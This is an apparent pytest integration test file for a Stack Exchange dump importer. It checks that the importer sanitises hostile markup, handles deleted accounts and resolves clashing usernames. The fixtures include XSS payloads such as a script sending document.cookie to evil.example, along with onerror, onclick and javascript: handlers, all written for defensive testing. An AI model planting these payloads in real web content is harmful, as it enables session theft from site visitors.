"""Hand-written dumps: hostile markup, deleted accounts, odd orders, clashing names, the CLI."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from sqlalchemy import select

from kshare.cli import main
from kshare.server.admin import AdminTools
from kshare.server.importer import import_stackexchange
from kshare.server.importer.site import Site
from kshare.server.tables import Item, Person, ServerMeta
from tests.integration.server_import.conftest import open_db
from tests.integration.server_import.dumps import answer, question, write_rows

HOSTILE_BODY = (
    "<p>Why does this run?</p>"
    "<script>document.location='https://evil.example/?'+document.cookie</script>"
    '<img src="x" onerror="alert(1)">'
    '<p><a href="javascript:alert(2)" onclick="alert(3)">click me</a></p>'
    '<iframe src="https://evil.example/frame"></iframe>'
    "<p>&lt;script&gt;alert(4)&lt;/script&gt; is what I typed</p>"
    '<pre><code>&lt;script src="app.js"&gt;&lt;/script&gt;</code></pre>'
)
ABOUT_MARKER = "about-text-zq81"


def _hostile_dump(folder: Path) -> Path:
    write_rows(
        folder / "Users.xml",
        [
            {"Id": 7, "DisplayName": "<b>Mallory</b>", "Location": "Evil\n   Town",
             "AboutMe": f"<p>{ABOUT_MARKER}<script>alert(5)</script></p>",
             "CreationDate": "2020-01-01T00:00:00.000"},
            {"Id": 8, "DisplayName": "Trent", "CreationDate": "2020-01-01T00:00:00.000"},
        ],
    )  # fmt: skip
    write_rows(
        folder / "Posts.xml",
        [
            question(1, 7, "<script>alert(6)</script> in a title?", HOSTILE_BODY,
                     tags="|JavaScript|XSS|javascript|"),
            answer(2, 1, 8, '<p>Never <b onmouseover="alert(7)">trust</b> input.</p>'),
        ],
    )  # fmt: skip
    write_rows(
        folder / "Comments.xml",
        [
            {"Id": 1, "PostId": 2, "Score": 0, "UserId": 7,
             "Text": "use `<script>` <script>alert(8)</script> @trent",
             "CreationDate": "2022-01-04T00:00:00.000"},
        ],
    )  # fmt: skip
    return folder


def test_hostile_markup_never_reaches_a_body(tmp_path: Path) -> None:
    data = tmp_path / "server"
    import_stackexchange(data, _hostile_dump(tmp_path / "evil"))
    db = open_db(data)
    try:
        with db.read() as session:
            items = {i.kind: i for i in session.scalars(select(Item))}
            mallory = session.scalars(select(Person).where(Person.username == "mallory-7"))
            person = mallory.one()
    finally:
        db.dispose()
    for item in items.values():
        # Outside code (fences and spans), where a renderer could take text for markup.
        prose = re.sub(r"(`+).*?\1", "", "".join(item.body.split("```")[::2]), flags=re.DOTALL)
        for bad in ("<script", "<img", "<iframe", "onerror=", "onclick", "onmouseover",
                    "javascript:", "evil.example", "<b"):  # fmt: skip
            assert bad not in prose, (item.kind, bad, item.body)
    body = items["question"].body
    assert "click me" in body and "is what I typed" in body
    assert '```\n<script src="app.js"></script>\n```' in body  # code is kept, as code
    assert items["question"].tags == ["javascript", "xss"]
    assert "`<script>`" in items["comment"].body  # inline code in a comment stays code
    assert "&lt;script>alert(8)" in items["comment"].body
    # Names and places are plain text; "about me" is not imported at all.
    assert person.display_name == "<b>Mallory</b>" and person.location == "Evil Town"
    assert ABOUT_MARKER.encode() not in (data / "kshare-server.sqlite3").read_bytes()
    assert "by &lt;b>Mallory&lt;/b>" in items["question"].body


def test_deleted_accounts_odd_order_and_what_is_skipped(tmp_path: Path) -> None:
    folder = tmp_path / "cooking.stackexchange.com"
    write_rows(
        folder / "Posts.xml",
        [
            answer(11, 10, 5, "<p>answer listed before its question</p>"),
            question(10, None, "Asked by a deleted account", "<p>q</p>",
                     OwnerDisplayName="Gone Gary", AcceptedAnswerId=11),
            {"Id": 12, "PostTypeId": 4, "CreationDate": "2022-01-01T00:00:00.000",
             "Body": "<p>tag wiki excerpt</p>", "OwnerUserId": 5},
            answer(13, 99, 5, "<p>answer to a question not in the dump</p>"),
        ],
    )  # fmt: skip
    write_rows(
        folder / "Comments.xml",
        [
            {"Id": 1, "PostId": 12, "Score": 0, "UserId": 6, "Text": "on the wiki",
             "CreationDate": "2022-01-04T00:00:00.000"},
            {"Id": 2, "PostId": 10, "Score": 2, "UserDisplayName": "Ghost",
             "Text": "anonymous comment", "CreationDate": "2022-01-04T00:00:00.000"},
        ],
    )  # fmt: skip
    data = tmp_path / "server"
    report = import_stackexchange(data, folder)
    assert (report.questions.added, report.answers.added, report.comments.added) == (1, 1, 1)
    assert report.skipped == {
        "posts that are neither questions nor answers": 1,
        "answers whose question is not in the dump": 1,
        "comments on posts that were not imported": 1,
    }
    site = Site.from_name("cooking.stackexchange.com")
    db = open_db(data)
    try:
        with db.read() as session:
            q = session.get(Item, site.id("post", 10))
            a = session.get(Item, site.id("post", 11))
            c = session.get(Item, site.id("comment", 2))
            former = session.get(Person, site.id("person", "former-member"))
            people = set(session.scalars(select(Person.username)))
    finally:
        db.dispose()
    assert q is not None and a is not None and c is not None and former is not None
    assert q.author_id == c.author_id == former.id
    assert former.display_name == "Former Cooking Stack Exchange member"
    assert q.accepted_answer_id == a.id and a.seq > q.seq
    assert "by Gone Gary" in q.body and "by Ghost" in c.body
    assert "(https://cooking.stackexchange.com/q/10)" in q.body
    assert "(https://cooking.stackexchange.com/a/11)" in a.body
    assert people == {"user-5", "former-member-cooking"}  # user 6 only wrote on the wiki


def test_a_colleague_keeps_a_clashing_username(tmp_path: Path) -> None:
    data = tmp_path / "server"
    with AdminTools(data) as admin:
        colleague = admin.add_user("trent-8", "Trent from IT", "secret pass")
    import_stackexchange(data, _hostile_dump(tmp_path / "evil"))
    import_stackexchange(data, _hostile_dump(tmp_path / "other"))  # another site, same ids
    with AdminTools(data) as admin:
        users = {u["username"]: u["id"] for u in admin.list_users()}
    assert users["trent-8"] == colleague
    assert {"trent-8-evil", "trent-8-other", "mallory-7", "mallory-7-other"} <= set(users)


def test_the_admin_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "server"
    folder = _hostile_dump(tmp_path / "evil")
    args = ["admin", "--data", str(data), "import-stackexchange", str(folder)]
    assert main([*args, "--organisation", "Acme"]) == 0
    out = capsys.readouterr()
    assert "questions: 1 added" in out.out and "posts: 2" in out.err
    assert main([*args, "--site", "evil"]) == 0  # the folder's own name: nothing new
    assert "questions: 0 added, 0 updated, 1 unchanged" in capsys.readouterr().out
    assert main(["admin", "--data", str(data), "import-stackexchange", str(tmp_path)]) == 1
    assert "no Posts.xml" in capsys.readouterr().err
    db = open_db(data)
    try:
        with db.read() as session:
            assert session.get(ServerMeta, "organisation").text == "Acme"  # type: ignore[union-attr]
    finally:
        db.dispose()
